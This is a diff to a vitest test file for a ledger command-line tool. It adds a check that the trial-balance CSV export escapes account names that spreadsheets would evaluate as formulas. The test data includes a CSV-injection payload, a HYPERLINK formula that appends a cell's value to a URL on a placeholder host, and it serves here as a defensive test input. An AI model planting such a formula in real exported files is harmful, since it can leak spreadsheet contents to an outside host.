@@ -1,6 +1,7 @@
 // `ledger reports trial-balance` and `ledger accounts history` (issue 32): the reports the HTTP endpoints answer,
-// straight on the database. The CSV is read back by a CSV parser and equals the API's report; json is the whole
-// report as one object; the table ends with the totals.
+// straight on the database. The CSV is read back by a CSV parser and equals the API's report, but for a name a
+// spreadsheet would evaluate, written as text (issue 41); json is the whole report as one object; the table ends with
+// the totals.
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { cli, client, fiat, makeAccount, onchain, post, startTestServer, type Client, type TestServer } from '../helpers/server.js';
@@ -53,6 +54,26 @@ describe('reports from the command line', () => {
     expect(badFormat.code).toBe(2);
     expect(badFormat.stderr).toMatch(/--format/);
     expect((await run('reports', 'trial-balance', '--as-of', 'yesterday')).code).toBe(2);
+  });
+
+  it('trial-balance csv: an account named as a formula is written as text, a quote before it; the amounts stay numbers', async () => {
+    const formula = '=HYPERLINK("http://x"&A2,"x")';
+    const trap = await makeAccount(c, { name: formula, type: 'ASSET' });
+    const suspense = await makeAccount(c, { name: '-Suspense', type: 'LIABILITY' });
+    expect((await post(c, [fiat(trap, 'DEBIT', '5.25'), fiat(suspense, 'CREDIT', '5.25')])).status).toBe(201);
+    const api = await c.get('/api/v1/reports/trial-balance?limit=200');
+    const csv = await run('reports', 'trial-balance', '--as-of', api.body.asOf, '--format', 'csv');
+    expect(csv.code, csv.stderr).toBe(0);
+    expect(csv.stdout).toContain(`,"'=HYPERLINK(""http://x""&A2,""x"")",ASSET,DEBIT,USD,5.25,0\n`);
+    const rows = parse(csv.stdout, { columns: true }) as Array<Record<string, string>>;
+    const named = (id: string) => rows.find((r) => r.accountId === id);
+    expect(named(trap)).toMatchObject({ name: `'${formula}`, debit: '5.25', credit: '0' });
+    expect(named(suspense)).toMatchObject({ name: "'-Suspense", debit: '0', credit: '5.25' });
+    // Every other cell as the API gives it.
+    const items = rows.filter((r) => r.accountId !== '');
+    expect(items.map((r) => ({ ...r, name: r.name!.replace(/^'(?=[=+\-@\t\r])/, '') }))).toEqual(
+      api.body.items.map((i: Record<string, unknown>) => ({ ...i, debit: String(i.debit), credit: String(i.credit) })),
+    );
   });
 
   it('accounts history: --json as the endpoint answers it; a table otherwise; more than 1,000 points exits 2', async () => {
